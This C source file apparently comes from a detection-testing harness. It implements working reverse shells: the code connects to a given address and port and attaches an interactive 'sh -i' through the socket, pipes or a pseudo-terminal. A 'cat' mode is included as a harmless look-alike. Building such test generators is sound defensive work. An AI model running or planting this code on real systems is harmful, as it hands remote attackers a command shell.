// SPDX-License-Identifier: Apache-2.0
// Shells that somebody elsewhere types into, and what looks a little like them.
#include "internal.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>

// Copies both ways until one ends.
static void relay(int remote, int input, int output)
{
    struct pollfd files[2] = {{.fd = remote, .events = POLLIN}, {.fd = output, .events = POLLIN}};
    char buffer[4096];

    while (poll(files, 2, 30000) > 0) {
        for (int i = 0; i < 2; i++) {
            ssize_t size = files[i].revents ? read(files[i].fd, buffer, sizeof buffer) : 0;

            if (files[i].revents && size <= 0)
                return;
            if (size > 0 && write(i ? remote : input, buffer, (size_t)size) != size)
                return;
        }
    }
}

// "remote-shell ADDRESS PORT socket|pipes|terminal|cat": a shell for who listens there: on the connection itself, by pipes,
// or on a terminal of its own; or cat in the place of a shell. Says its process id.
int run_remote_shell(int argc, char *const argv[])
{
    struct sockaddr_in ipv4 = {.sin_family = AF_INET};
    int remote = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), in[2], out[2];

    if (argc < 3)
        return 64;
    ipv4.sin_port = htons((uint16_t)atoi(argv[1]));
    inet_pton(AF_INET, argv[0], &ipv4.sin_addr);
    if (remote < 0 || connect(remote, (struct sockaddr *)&ipv4, sizeof ipv4))
        die("connect");
    if (strcmp(argv[2], "socket") == 0 || strcmp(argv[2], "cat") == 0) {
        char *shell[] = {"sh", "-i", 0}, *cat[] = {"cat", 0};
        int isCat = argv[2][0] == 'c';

        say("shell %d", getpid());
        for (int i = 0; i < 3; i++)
            dup2(remote, i);
        execvp(isCat ? "cat" : "sh", isCat ? cat : shell);
        die("execvp");
    }
    if (strcmp(argv[2], "terminal") == 0) {
        int master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);

        if (master < 0 || grantpt(master) || unlockpt(master))
            die("posix_openpt");
        in[0] = out[1] = open(ptsname(master), O_RDWR | O_NOCTTY);
        in[1] = out[0] = master;
    } else if (pipe2(in, O_CLOEXEC) || pipe2(out, O_CLOEXEC)) {
        die("pipe2");
    }
    pid_t pid = fork();
    if (pid == 0) {
        dup2(in[0], 0);
        dup2(out[1], 1);
        dup2(out[1], 2);
        execlp("sh", "sh", "-i", (char *)0);
        die("execlp");
    }
    close(in[0]);
    if (out[1] != in[0])
        close(out[1]);
    say("shell %d", pid);
    relay(remote, in[1], out[0]);
    kill(pid, SIGKILL);
    reap(pid);
    return 0;
}
